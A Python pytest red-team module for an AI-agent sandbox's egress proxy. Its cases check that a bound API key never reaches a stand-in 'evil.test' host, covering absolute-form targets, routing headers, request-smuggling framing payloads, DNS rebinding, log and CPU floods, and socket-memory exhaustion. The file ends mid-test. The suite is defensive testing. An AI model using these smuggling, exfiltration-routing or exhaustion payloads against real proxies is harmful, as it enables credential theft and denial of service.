"""Red team of session 32, egress and secrets: what a request inside a terminated
connection can make the bound server do with the secret swapped in, and what the proxy
does with a secret it cannot put in a header.

One agent (rteg) with two bindings to ``api.test:443``: the secret ``apikey`` in
``x-api-key: {}`` (env API_KEY) and the secret ``spacey`` in ``x-spacey: {}`` (env
SPACEY_KEY), whose value ends with a space (a key pasted with one; printable ASCII, which
``secret_set`` accepts). ``api.test`` and ``evil.test`` (``[egress] hosts``) are one
address in a test network namespace (198.18.182.0/24), served by one nginx with a
certificate for both (a test CA the proxy trusts through ``[egress] upstream_ca``): a
shared front end, a CDN or an ingress with a tenant's virtual host beside the API's. The
api.test virtual host says whether the key it got is the real one (never echoes it); the
evil.test one, the tenant's, echoes the x-api-key it got. The agent's rules open only
``api.test:443`` (and its address, which the test range needs); never evil.test.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from helpers import assert_ok
from hive_fixture import HiveProcess, probe_result, running_hive
from testnet import TestNet

from .egress_kit import TLS_SERVER_HEAD, TLS_SERVER_LOOP, cpu_seconds, latencies, tcp_mem_pages
from .test_secrets_egress import cert_dir

AGENT, OTHER = "rteg", "rtoth"
KEY = "sk-live-REAL-" + "q7" * 16
SPACEY = "sk-spacey-REAL-" + "z9" * 12 + " "  # a trailing space: printable ASCII
NET = TestNet(182, prefix="hvre")
FRONT, HANG = NET.address(2), NET.address(3)
HOSTS = {"api.test": FRONT, "evil.test": FRONT, "hang.test": HANG}
BINDINGS = """
[[secret_binding]]
secret = "apikey"
agents = ["rteg", "rtoth"]
to = "api.test:443"
header = "x-api-key: {}"
env = "API_KEY"

[[secret_binding]]
secret = "spacey"
agents = ["rteg"]
to = "api.test:443"
header = "x-spacey: {}"
env = "SPACEY_KEY"
"""

# hang.test: /hang is never answered; /info is answered with a 100 Continue every 0.2 s, forever.
HANG_ANSWER = r"""
import time
def answer(t, head):
    if head.startswith(b"GET /bighead"):
        t.sendall(b"HTTP/1.1 200 OK\r\nX-Big: " + b"a" * (1 << 20) + b"\r\nContent-Length: 0\r\n\r\n")
        return
    if head.startswith(b"GET /flood"):
        block = b"HTTP/1.1 100 Continue\r\n\r\n" * 2000
        while True:
            t.sendall(block)
    if head.startswith(b"GET /info"):
        while True:
            t.sendall(b"HTTP/1.1 100 Continue\r\n\r\n")
            time.sleep(0.2)
    while True:
        if not t.recv(65536):
            return
"""

# HANG:9000: reads each connection as fast as it can for a second, then never again.
SINK = r"""
import socket, sys, threading, time
def serve(c):
    end = time.monotonic() + 1
    c.settimeout(0.2)
    while time.monotonic() < end:
        try:
            if not c.recv(1 << 20):
                return
        except OSError:
            pass
    time.sleep(3600)
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)  # (its own queue small: a remote host's memory)
s.bind((sys.argv[1], int(sys.argv[2])))
s.listen(64)
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"""

# One nginx (no master process: nothing outlives its kill), two virtual hosts on one
# address and port.
NGINX = """
master_process off;
daemon off;
worker_processes 1;
pid {d}/nginx.pid;
error_log {d}/error.log;
events {{}}
http {{
  access_log off;
  client_body_temp_path {d}; proxy_temp_path {d}; fastcgi_temp_path {d};
  uwsgi_temp_path {d}; scgi_temp_path {d};
  map $http_x_api_key $key_ok {{ "{key}" yes; default no; }}
  server {{
    listen {addr}:443 ssl; server_name api.test;
    ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.pem;
    location / {{ return 200 "api.test vhost: key_ok=$key_ok uri=$request_uri conn=$connection n=$connection_requests\\n"; }}
  }}
  server {{
    listen {addr}:443 ssl; server_name evil.test;
    ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.pem;
    location / {{ return 200 "evil.test vhost got x-api-key=$http_x_api_key\\n"; }}
  }}
}}
"""


@pytest.fixture(scope="module")
def certs() -> Iterator[tuple[Path, str]]:
    with cert_dir("hvre", "rt32 upstream CA", "shared front end", list(HOSTS)) as (d, ca_pem):
        yield d, ca_pem.decode()


@pytest.fixture(scope="module")
def net(certs: tuple[Path, str]) -> Iterator[TestNet]:
    d = certs[0]
    (d / "nginx.conf").write_text(NGINX.format(d=d, key=KEY, addr=FRONT))
    with NET as n:
        n.serve(FRONT, 443, ["nginx", "-p", str(d), "-c", str(d / "nginx.conf")])
        n.serve(HANG, 9000, [sys.executable, "-c", SINK, HANG, "9000"])
        n.serve(HANG, 443, [sys.executable, "-c", TLS_SERVER_HEAD + HANG_ANSWER + TLS_SERVER_LOOP, HANG, "443",
                            str(d / "server.pem")])
        yield n


@pytest.fixture(scope="module")
def hive(net: TestNet, certs: tuple[Path, str]) -> Iterator[HiveProcess]:
    agents = {AGENT: {"runtime": "command", "command": ["true"],
                      "egress": ["api.test:443", f"{FRONT}:443", "GET hang.test:443/*", f"{HANG}:443", f"{HANG}:9000"]},
              OTHER: {"runtime": "command", "command": ["true"], "egress": ["api.test:443", f"{FRONT}:443"]}}
    h = HiveProcess(agents, sections={"egress": {"hosts": HOSTS, "upstream_ca": str(certs[0] / "ca.pem")}})
    h.config_path.write_text(h.config_path.read_text() + BINDINGS)
    h.write_config = lambda agents: None  # type: ignore[method-assign]  # keep the bindings
    for hv in running_hive(h):
        assert_ok(hv.host_call("secret_set", name="apikey", value=KEY))
        hv.spacey_reply = hv.host_call("secret_set", name="spacey", value=SPACEY)  # type: ignore[attr-defined]
        yield hv


# In the cage: each case is [CONNECT host, SNI, raw request with {API_KEY} / {SPACEY_KEY}
# standing for the placeholders in this process's environment]; one connection each.
TUNNEL = r"""
import ssl

def tunnel(host, sni, raw):
    raw = raw.replace("{API_KEY}", os.environ.get("API_KEY", "?")).replace(
        "{SPACEY_KEY}", os.environ.get("SPACEY_KEY", "?"))
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            return {"connect": head.decode(errors="replace")}
        head += chunk
    if not head.startswith(b"HTTP/1.1 200"):
        return {"connect": head.decode(errors="replace")}
    try:
        ctx = ssl.create_default_context(cafile="/run/hive/ca-bundle.pem")
        t = ctx.wrap_socket(s, server_hostname=sni)
    except (ssl.SSLError, OSError) as e:
        return {"tls": type(e).__name__ + ": " + str(e)}
    t.sendall(raw.encode("latin-1"))
    out = b""
    while True:
        try:
            chunk = t.recv(65536)
        except (OSError, ssl.SSLError) as e:
            out += b"[" + type(e).__name__.encode() + b"]"
            break
        if not chunk:
            break
        out += chunk
    status = out.split(b" ", 2)[1].decode() if out.startswith(b"HTTP/1.1 ") else "0"
    return {"status": int(status) if status.isdigit() else 0,
            "body": out.partition(b"\r\n\r\n")[2].decode(errors="replace"),
            "raw": out.decode(errors="replace")}

def safe(*a):
    try:
        return tunnel(*a)
    except OSError as e:
        return {"error": type(e).__name__ + ": " + str(e)}

env = {k: os.environ.get(k, "") for k in ("API_KEY", "SPACEY_KEY")}
result(env=env, **{k: safe(*v) for k, v in P["cases"].items()})
"""


def get(target: str, host: str, *headers: str) -> str:
    return "".join([f"GET {target} HTTP/1.1\r\nHost: {host}\r\n", *(h + "\r\n" for h in headers),
                    "Connection: close\r\n\r\n"])


KEYED = "x-api-key: {API_KEY}"
# Framing and header-name corners beyond test_secrets_egress.py's five, each with the key.
_P = "POST /v1/{} HTTP/1.1\r\nHost: api.test\r\nx-api-key: {{API_KEY}}\r\n"
SMUGGLE32 = {
    "te-twice": _P.format("s1") + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "te-list": _P.format("s2") + "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
    "cl-list": _P.format("s3") + "Content-Length: 3, 3\r\nConnection: close\r\n\r\nabc",  # (answered: not left open)
    "cl-plus": _P.format("s4") + "Content-Length: +3\r\n\r\nabc",
    "chunk-0x": _P.format("s5") + "Transfer-Encoding: chunked\r\n\r\n0x3\r\nabc\r\n0\r\n\r\n",
    "chunk-bare-lf": _P.format("s6") + "Transfer-Encoding: chunked\r\n\r\n3\nabc\r\n0\r\n\r\n",
    "name-del": _P.format("s7") + "X-A\x7f: 1\r\nContent-Length: 0\r\n\r\n",
    "name-tab": _P.format("s8") + "Content-Length\t: 0\r\n\r\n",
    "cr-in-value": _P.format("s9") + "X-A: 1\rContent-Length: 0\r\n\r\n",
    "nul-in-value": _P.format("s10") + "X-A: 1\x00\r\nContent-Length: 0\r\n\r\n",
    "http2-preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
}


# Requests whose Host and target are the destination's, but that a server may route
# elsewhere: by a network-path target ("//host/x"), a backslash some servers read as
# "/", or a header that overrides the host or the path (re-check of session 32).
ROUTED = {
    "network-path": ("//evil.test/steal",),
    "backslash": ("/\\evil.test/steal",),
    "x-forwarded-host": ("/v1/x", "X-Forwarded-Host: evil.test"),
    "forwarded": ("/v1/x", "Forwarded: for=10.0.0.1;host=evil.test;proto=https"),
    "x-original-url": ("/v1/x", "X-Original-URL: /admin/keys"),
    "x-rewrite-url": ("/v1/x", "X-Rewrite-URL: /admin/keys"),
    "x-host": ("/v1/x", "X-Host: evil.test"),
}


@pytest.fixture(scope="module")
def res(hive: HiveProcess) -> dict[str, Any]:
    cases = {
        "origin-form": ("api.test", "api.test", get("/v1/models", "api.test", KEYED)),
        "absolute-http": ("api.test", "api.test", get("http://evil.test/steal", "api.test", KEYED)),
        "absolute-https": ("api.test", "api.test", get("https://evil.test/steal", "api.test", KEYED)),
        "absolute-port": ("api.test", "api.test", get("https://evil.test:443/steal", "api.test:443", KEYED)),
        "authority-form": ("api.test", "api.test", get("evil.test:443", "api.test", KEYED)),
        **{k: ("api.test", "api.test", get(target, "api.test", KEYED, *more)) for k, (target, *more) in ROUTED.items()},
        "spacey": ("api.test", "api.test", get("/v1/spacey", "api.test", "x-spacey: {SPACEY_KEY}")),
        **{k: ("api.test", "api.test", v) for k, v in SMUGGLE32.items()},
        "bighead": ("hang.test", "hang.test", get("/bighead", "hang.test")),
    }
    out = probe_result(hive.probe(AGENT, TUNNEL, timeout=120, cases={k: list(v) for k, v in cases.items()}))
    assert out["env"]["API_KEY"].startswith("hive-placeholder-"), out["env"]
    return out


@pytest.mark.attack("egress.tls-sni-host", ref="RFC 9112 3.2.2 (absolute-form overrides Host); nginx vhost selection")
def test_the_bound_key_reaches_only_the_bound_virtual_host(res: dict[str, Any]) -> None:
    """Inside the TLS the proxy terminated for ``api.test`` (SNI and Host both api.test,
    as the proxy checks), the request line's target is absolute-form naming another
    authority: ``GET http://evil.test/steal HTTP/1.1`` with ``Host: api.test`` and the
    placeholder in the bound header. RFC 9112 3.2.2: a server MUST ignore Host for an
    absolute-form target and use the target's authority; nginx (and front ends built
    like it) pick the virtual host by it. The proxy checks Host only and forwards the
    target as it is, the real key swapped in: a shared front end hands the key to the
    other tenant's virtual host, which here echoes it into the cage.
    Safe: a target whose authority is not the destination (or any absolute-form or
    authority-form target) is refused (400/403) or rewritten to origin-form; the key never
    reaches evil.test's virtual host and never comes back to the cage."""
    assert res["origin-form"]["status"] == 200 and "key_ok=yes" in res["origin-form"]["body"], res["origin-form"]
    leaked = {case: res[case].get("body", res[case]) for case in ("absolute-http", "absolute-https", "absolute-port", "authority-form")
              if KEY in json.dumps(res[case]) or "evil.test vhost" in res[case].get("body", "")}
    assert not leaked, ("the bound key reached another virtual host", leaked)


@pytest.mark.attack("egress.tls-sni-host", ref="RFC 3986 3.3 (no path-absolute starts with '//'); RFC 7239; X-Forwarded-Host, X-Original-URL (trusted-proxy routing)")
def test_a_target_or_header_a_server_may_route_elsewhere_is_refused(res: dict[str, Any]) -> None:
    """The re-check of session 32 named what origin-form alone let through, each with the
    bound key and Host api.test: a network-path target (``//evil.test/steal``, which a
    framework's redirect or router resolves to evil.test), a backslash (``/\\evil.test``,
    read as ``//`` by some servers), and the headers by which front ends behind trusted
    proxies take another host or path (``X-Forwarded-Host``, ``Forwarded: host=``,
    ``X-Original-URL``, ``X-Rewrite-URL``, ``X-Host``). Safe: each is refused (400) by the
    proxy, naming why, before anything goes upstream; the plain request still passes."""
    assert res["origin-form"]["status"] == 200, res["origin-form"]
    for case in ROUTED:
        got = res[case]
        assert got.get("status") == 400, (case, got)
        assert "evil.test vhost" not in got.get("body", "") and "api.test vhost" not in got.get("body", ""), (case, got)
        assert "origin-form" in got["body"] or "names another host or path" in got["body"], (case, got)


@pytest.mark.attack("secrets.store", ref="issue 16 item 1 (no log line carries a value); h11 LocalProtocolError text")
def test_a_secret_the_proxy_cannot_send_is_not_written_to_the_log(hive: HiveProcess, res: dict[str, Any]) -> None:
    """The operator sets a key with a trailing space (printable ASCII: ``secret_set``
    takes it; only CR/LF are stripped). The agent sends the bound header with its
    placeholder: the proxy builds the upstream request with h11, which refuses a field
    value with edge whitespace with ``LocalProtocolError("Illegal header value b'<the
    secret>'")``; ``Terminated.run`` does not catch it, and ``EgressProxy._serve``'s
    ``log.exception`` writes the traceback, the secret in it, to the core's log, once
    per request the agent chooses to send.
    Safe: such a value is refused when set (or the header is trimmed, or the failure is
    logged without the value); the value is in no log line."""
    reply = hive.spacey_reply  # type: ignore[attr-defined]
    time.sleep(0.5)
    log = hive.log_tail(3000)
    assert SPACEY.strip() not in log, (reply, res["spacey"], [ln for ln in log.splitlines() if "spacey" in ln.lower() or "Illegal" in ln][:5])


# In the cage: P["conns"] kept-alive terminated connections to api.test, each sending the
# bound header with its placeholder, request after request, for P["seconds"].
KEEPALIVE_FLOOD = r"""
import ssl, threading, time
key = os.environ["API_KEY"]
req = f"GET /v1/x HTTP/1.1\r\nHost: api.test\r\nx-api-key: {key}\r\n\r\n".encode()
counts = [0] * P["conns"]
errors = []

CTX = ssl.create_default_context(cafile="/run/hive/ca-bundle.pem")

def connect():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    s.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(4096)
    return CTX.wrap_socket(s, server_hostname="api.test")

def one(i):
    end = time.monotonic() + P["seconds"]
    while time.monotonic() < end:
        try:
            run(i, end)
        except EOFError:
            continue  # the server's keep-alive limit: connect again
        except Exception as e:
            errors.append(type(e).__name__ + ": " + str(e)[:100])
            return

def run(i, end):
        t = connect()
        buf = b""
        while time.monotonic() < end:
            t.sendall(req)
            while True:
                h, sep, rest = buf.partition(b"\r\n\r\n")
                if sep:
                    n = int([l.split(b":")[1] for l in h.split(b"\r\n") if l.lower().startswith(b"content-length")][0])
                    if len(rest) >= n:
                        buf = rest[n:]
                        break
                chunk = t.recv(65536)
                if not chunk:
                    raise EOFError("closed after %d" % counts[i])
                buf += chunk
            counts[i] += 1
        t.close()

th = [threading.Thread(target=one, args=(i,)) for i in range(P["conns"])]
for x in th: x.start()
for x in th: x.join()
result(counts=counts, errors=errors)
"""



@pytest.mark.attack("budget.exhaustion", ref="red team round 22 (refusal log throttled); docs 'a refusal's log line is one an agent every 10 s'")
def test_kept_alive_requests_with_a_secret_do_not_grow_the_log_a_line_each(hive: HiveProcess) -> None:
    """The agent keeps 4 terminated connections to its bound destination and sends small
    requests on them as fast as the answers come, each with the placeholder: the proxy
    writes ``egress rteg: secret apikey put in x-api-key for api.test:443`` to the core's
    log for every request, unthrottled (refusals are one line an agent every 10 s; a
    connection's decisions are bounded by ``connections_per_second``; requests on a
    kept-alive connection by nothing but the CPU share). The core's log, on the host's
    disk, grows at the agent's pace.
    Safe: at most a few lines a second for an agent's injections (a count per period, as
    for refusals); here, under 200 lines for the whole run."""
    core = hive.core_pid()
    assert core is not None
    before_log = hive.log_path.stat().st_size
    before_lines = hive.log_tail(10**7).count("put in x-api-key")
    t0, c0 = time.monotonic(), cpu_seconds(core)
    out = probe_result(hive.probe(AGENT, KEEPALIVE_FLOOD, timeout=120, conns=4, seconds=10))
    wall, cpu = time.monotonic() - t0, cpu_seconds(core) - c0
    time.sleep(1)
    grew = hive.log_path.stat().st_size - before_log
    lines = hive.log_tail(10**7).count("put in x-api-key") - before_lines
    sent = sum(out["counts"])
    print(f"requests {sent} in {wall:.1f} s; core CPU {cpu / wall:.2f}; log +{grew} B, +{lines} injection lines; {out['errors']}")
    assert sent > 100, out
    assert lines < 200, (f"{lines} log lines ({grew} bytes) for {sent} requests in {wall:.1f} s,"
                         f" core at {cpu / wall:.2f} CPU")



@pytest.mark.attack("budget.exhaustion", ref="red team round 23a (h11 pieces under the core's GIL); CpuPacer's cpu_total")
def test_another_agents_calls_are_answered_while_one_floods_kept_alive_requests(hive: HiveProcess) -> None:
    """rteg sends small requests on 8 kept-alive terminated connections as fast as they are
    answered (h11 parses and re-frames each in the core, under its one GIL; the agent's
    CPU share is 1 CPU here, which is all of the GIL), while the host calls ``whoami`` on
    rtoth's agent.sock every 10 ms: the core's event loop competes for the GIL with the
    relay threads.
    Safe: rtoth's calls keep their idle latency (p99 under 50 ms, none over 250 ms)."""
    import threading
    idle = latencies(hive, OTHER, 2)
    got: dict[str, Any] = {}
    th = threading.Thread(target=lambda: got.update(out=probe_result(
        hive.probe(AGENT, KEEPALIVE_FLOOD, timeout=120, conns=8, seconds=10))))
    th.start()
    time.sleep(2)  # the probe's cage entry and the connections up
    busy = latencies(hive, OTHER, 6)
    th.join()

    def p(xs: list[float], q: float) -> float:
        return round(1000 * xs[min(len(xs) - 1, int(q * len(xs)))], 1)

    print(f"idle p50 {p(idle, .5)} p99 {p(idle, .99)} max {p(idle, 1)} ms; flood p50 {p(busy, .5)} p99 {p(busy, .99)}"
          f" max {p(busy, 1)} ms ({len(busy)} calls); requests {sum(got['out']['counts'])}")
    assert p(busy, .99) < 50 and p(busy, 1) < 250, (p(idle, .99), p(busy, .5), p(busy, .99), p(busy, 1))


# In the cage: P["conns"] terminated connections to hang.test, each sending GET P["path"],
# then closing after a second without an answer.
GIVE_UP = r"""
import ssl, time
CTX = ssl.create_default_context(cafile="/run/hive/ca-bundle.pem")
socks = []
def one():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    s.sendall(b"CONNECT hang.test:443 HTTP/1.1\r\nHost: hang.test:443\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(4096)
    t = CTX.wrap_socket(s, server_hostname="hang.test")
    t.sendall(("GET %s HTTP/1.1\r\nHost: hang.test\r\n\r\n" % P["path"]).encode())
    socks.append(t)
errors = []
for i in range(P["conns"]):
    try:
        one()
    except OSError as e:
        errors.append(type(e).__name__)
time.sleep(1)
got = b""
if socks:
    socks[-1].settimeout(0.5)
    try:
        got = socks[-1].recv(100)
    except OSError as e:
        got = type(e).__name__.encode()
for t in socks:
    t.close()
result(got=got.decode(errors="replace"), opened=len(socks), errors=errors)
"""


def upstream_conns() -> int:
    """Established TCP connections at hang.test's port 443 (in the test namespace)."""
    out = subprocess.run(["ip", "netns", "exec", NET.ns, "ss", "-Htn", "state", "established", f"( sport = :443 and src {HANG} )"],
                         capture_output=True, text=True, check=True).stdout
    return len([ln for ln in out.splitlines() if ln.strip()])


@pytest.mark.attack("budget.exhaustion", ref="test_egress.py 'an upstream that stalls mid-body is ended when the cage gives up'")
@pytest.mark.parametrize("path", ["/hang", "/info", "/flood"])
def test_a_terminated_connection_ends_when_the_cage_gives_up_on_a_silent_upstream(hive: HiveProcess, path: str) -> None:
    """rteg opens 16 terminated connections (its whole max_connections) to hang.test (an L7
    rule), sends a request the server never answers (``/hang``), or answers only with
    interim 100 Continue responses every 0.2 s (``/info``), then closes all 16 after a
    second. The proxy, in ``Terminated._relay_response``, waits on the upstream only (no
    timeout: ``settimeout(None)`` after its handshake) and never looks at the cage's side:
    the 16 slots, their threads and upstream connections stay, and the agent's next
    CONNECT, to anything, waits for a slot.
    Safe: the upstream connections end within a few seconds of the cage closing, and a new
    CONNECT is answered at once."""
    base = upstream_conns()
    out = probe_result(hive.probe(AGENT, GIVE_UP, timeout=120, conns=16, path=path))
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline and upstream_conns() > base:
        time.sleep(0.25)
    left = upstream_conns() - base
    core = hive.core_pid()
    assert core is not None
    c0, t0 = cpu_seconds(core), time.monotonic()
    time.sleep(1)  # (a printed figure: 3 s before the suite's trim)
    cpu = (cpu_seconds(core) - c0) / (time.monotonic() - t0)
    nxt = probe_result(hive.probe(AGENT, TUNNEL, timeout=60, cases={"next": ["api.test", "api.test", get("/v1/after", "api.test", KEYED)]}))
    print(f"{path}: opened {out['opened']} {out['errors']}, cage saw {out['got']!r}; upstream connections left 8 s"
          f" after the cage closed: {left}; core CPU then {cpu:.2f}; next: {nxt['next']}")
    try:
        assert out["opened"] == 16 and left == 0 and nxt["next"].get("status") == 200, (left, cpu, nxt["next"])
    finally:
        assert hive.host_call("restart", name=AGENT)["ok"]  # (its stop ends them: the next case starts clean)
        time.sleep(1)


# -- DNS answers that change between the check and the dial (the proxy's code, in-process) --

class Rebinding:
    """A resolver whose answer for every name changes after the first lookup: a public
    address first, then loopback (what a rebinding zone answers)."""

    def __init__(self, first: str, then: str) -> None:
        import ipaddress
        self.answers = [ipaddress.ip_address(first), ipaddress.ip_address(then)]
        self.asked: list[str] = []
        self.hosts: dict[str, Any] = {}

    def resolve(self, host: str, port: int) -> list[Any]:
        self.asked.append(host)
        return [self.answers[min(1, len(self.asked) - 1)]]


def _serve_in_process(proxy: Any, request: bytes, then: bytes = b"") -> bytes:
    import socket as socket_
    import threading
    client, server = socket_.socketpair()
    with client:
        client.sendall(request)
        t = threading.Thread(target=proxy._serve, args=("rtrebind", server, False), daemon=True)
        t.start()
        client.settimeout(10)
        data = b""
        if then:
            while b"\r\n\r\n" not in data:
                chunk = client.recv(65536)
                if not chunk:
                    return data
                data += chunk
            client.sendall(then)
        try:
            while chunk := client.recv(65536):
                data += chunk
        except OSError:
            pass
        t.join(10)
    return data


def _client_hello(sni: str) -> bytes:
    import ssl
    ctx = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@pytest.mark.attack("egress.private-ranges", ref="DNS rebinding between check and connect (srt resolved-address guard)")
def test_the_proxy_dials_the_address_it_checked_when_dns_changes_its_answer() -> None:
    """A name the rules cover answers a public address (the test range, opened by a CIDR
    rule) at the check and loopback at any later lookup. Safe: the proxy looks the name up
    once and connects to the address it checked, never to the later answer."""
    from hyperhive.core.egress import Decision, EgressProxy, Refusal
    from hyperhive.wire.egress import parse_rules

    dialled: list[list[str]] = []

    class Recording(EgressProxy):
        @staticmethod
        def _connect(addresses: list[Any], port: int) -> Any:
            dialled.append([str(a) for a in addresses])
            raise Refusal(502, "test: not dialled")

    resolver = Rebinding("198.18.182.77", "127.0.0.1")
    decisions: list[Decision] = []
    proxy = Recording(lambda a: parse_rules(["rebind.test:80", "rebind.test:443", "198.18.182.0/24:80",
                                             "198.18.182.0/24:443"]), decisions.append, resolver)
    for head in (b"GET http://rebind.test/ HTTP/1.1\r\nHost: rebind.test\r\n\r\n",
                 b"CONNECT rebind.test:443 HTTP/1.1\r\n\r\n"):
        resolver.asked.clear()
        reply = _serve_in_process(proxy, head)
        assert b"502" in reply.split(b"\r\n")[0], reply
        assert resolver.asked == ["rebind.test"], resolver.asked
    assert dialled == [["198.18.182.77"], ["198.18.182.77"]], dialled


@pytest.mark.attack("egress.l7-bypass", ref="red team round 5 (IP literal of an L7 name); DNS answers that rotate")
def test_an_l7_names_address_whose_dns_answer_moved_still_cannot_carry_its_tls() -> None:
    """The agent has L7 rules on ``gh.rebind.test:443`` and an address rule for the test
    range. It CONNECTs to an IP literal of gh's (one DNS gave a moment ago) while the L7
    name's lookup now answers another address (round-robin DNS, a rotated CDN answer), so
    ``l7_by_address``'s check passes; inside, TLS with SNI gh.rebind.test.
    Safe: the tunnel's first record (SNI = a name with L7 rules, not the tunnel's) is
    refused and nothing is relayed."""
    import threading

    from hyperhive.core.egress import EgressProxy
    from hyperhive.wire.egress import parse_rules

    def attempt(sni: str) -> tuple[bytes, list[bytes]]:
        listener = __import__("socket").socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        got: list[bytes] = []

        def upstream() -> None:
            listener.settimeout(10)
            try:
                c, _ = listener.accept()
                c.settimeout(3)
                got.append(c.recv(65536))
            except OSError:
                pass

        th = threading.Thread(target=upstream, daemon=True)
        th.start()
        port = listener.getsockname()[1]

        class ToListener(EgressProxy):
            @staticmethod
            def _connect(addresses: list[Any], p: int) -> Any:
                sock, _ = EgressProxy._connect([__import__("ipaddress").ip_address("127.0.0.1")], port)
                return sock, addresses[0]  # (the address it checked: the stand-in listens on loopback)

        resolver = Rebinding("198.18.182.50", "198.18.182.50")  # gh's lookup now: .50; the literal: .40
        proxy = ToListener(lambda a: parse_rules(["GET gh.rebind.test:443/*", "198.18.182.0/24:443"]),
                           lambda d: None, resolver)
        reply = _serve_in_process(proxy, b"CONNECT 198.18.182.40:443 HTTP/1.1\r\n\r\n", then=_client_hello(sni))
        th.join(5)
        listener.close()
        return reply, got

    reply, got = attempt("gh.rebind.test")
    assert reply.startswith(b"HTTP/1.1 200"), reply
    assert got in ([], [b""]), got  # nothing of the ClientHello reached the upstream
    reply, got = attempt("other.rebind.test")  # the control: another name's TLS goes through
    assert reply.startswith(b"HTTP/1.1 200") and got and got[0][:1] == b"\x16", (reply, got)


# In the cage: P["conns"] tunnels to the sink, each written as fast as it takes for
# P["write"] s, then held open for P["hold"] s.
STUFF = r"""
import threading, time
sent = [0] * P["conns"]
socks = []
def one(i):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    s.sendall(P["target"].encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(4096)
    socks.append(s)
    s.settimeout(0.5)
    block = b"x" * 65536
    end = time.monotonic() + P["write"]
    while time.monotonic() < end:
        try:
            sent[i] += s.send(block)
        except OSError:
            pass
th = [threading.Thread(target=one, args=(i,)) for i in range(P["conns"])]
for x in th: x.start()
for x in th: x.join()
time.sleep(P["hold"])
result(sent=sent)
"""


def queued(prefix: list[str], filt: str) -> int:
    """Bytes in the receive and send queues (skmem r + w) of the TCP sockets ``ss`` shows
    matching ``filt``, run under ``prefix`` (a network namespace)."""
    import re
    out = subprocess.run([*prefix, "ss", "-Htnm", "state", "established", filt], capture_output=True, text=True).stdout
    return sum(int(r) + int(w) for r, w in re.findall(r"skmem:\(r(\d+),rb\d+,t\d+,tb\d+,f\d+,w(\d+)", out))


def _sock_bytes(cg: Path) -> int:
    try:
        for line in (cg / "memory.stat").read_text().splitlines():
            if line.startswith("sock "):
                return int(line.split()[1])
    except OSError:
        pass
    return 0



@pytest.mark.attack("budget.exhaustion", ref="docs 'Budgets and quotas' (the core's descriptors and threads are budgeted; its socket memory?)")
def test_one_agents_stalled_tunnels_hold_bounded_socket_memory(hive: HiveProcess) -> None:
    """rteg opens 16 byte tunnels to a server of its own (an allowed address) that reads
    for a second, then stops reading, and writes into each as fast as it can: what the
    server doesn't take waits in the kernel's socket buffers on the way (the proxy's
    upstream socket's send queue is hive-core's, the client socket's receive queue too),
    counted in the host's TCP memory (``tcp_mem``: past its pressure limit every TCP
    socket of the host is squeezed).
    The control (``test_the_cages_own_loopback_pairs_hold_socket_memory_too``): 16 pairs
    on the cage's own loopback, never read, hold ~42 MiB; the proxy read the first second
    fast, the kernel grew the handed-over socket's receive window to ``tcp_rmem``'s max
    (32 MiB here), then stopped reading: each tunnel queues ~30 MiB there plus ~3.6 MiB in
    the core's upstream send queue, none of it charged to the cage on a cgroup v1 host.
    Safe: the hive's sockets hold less than 256 MiB for one agent's 16 tunnels."""
    import threading
    base = tcp_mem_pages()
    got: dict[str, Any] = {}
    th = threading.Thread(target=lambda: got.update(out=probe_result(hive.probe(
        AGENT, STUFF, timeout=120, conns=16, write=6, hold=6,
        target=f"CONNECT {HANG}:9000 HTTP/1.1\r\nHost: {HANG}:9000\r\n\r\n"))))
    th.start()
    peak = base
    parts = (0, 0, 0)
    hp = hive.harness_pid(AGENT)
    cage = ["nsenter", "-t", str(hp), "-n"]
    cg = Path("/sys/fs/cgroup") / Path(f"/proc/{hp}/cgroup").read_text().strip().split("::", 1)[1].lstrip("/")
    sock0 = _sock_bytes(cg)
    core_cg = Path("/sys/fs/cgroup") / Path(f"/proc/{hive.core_pid()}/cgroup").read_text().strip().split("::", 1)[1].lstrip("/")
    core0 = _sock_bytes(core_cg)
    cage_sock = core_sock = 0
    end = time.monotonic() + 14
    while th.is_alive() and time.monotonic() < end:
        now = tcp_mem_pages()
        if now > peak:
            peak = now
            # the core's upstream sockets (host), the cage's loopback pair (runtime and the
            # handed-over end), the test server's own (not the hive's: a remote host's)
            cage_sock, core_sock = _sock_bytes(cg) - sock0, _sock_bytes(core_cg) - core0
            parts = (queued([], f"( dst {HANG}:9000 )"), queued(cage, "( sport = :3128 or dport = :3128 )"),
                     queued(["ip", "netns", "exec", NET.ns], "( sport = :9000 )"))
        time.sleep(0.25)
    th.join()
    # (the 16 tunnels outlive the probe: the proxy, blocked writing to a server that reads
    # nothing, never sees the cage's close; the agent's stop ends them)
    still = queued([], f"( dst {HANG}:9000 )") >> 20
    assert hive.host_call("restart", name=AGENT)["ok"]
    time.sleep(1)
    grew = (peak - base) * os.sysconf("SC_PAGE_SIZE") >> 20
    sent = sum(got["out"]["sent"]) >> 20
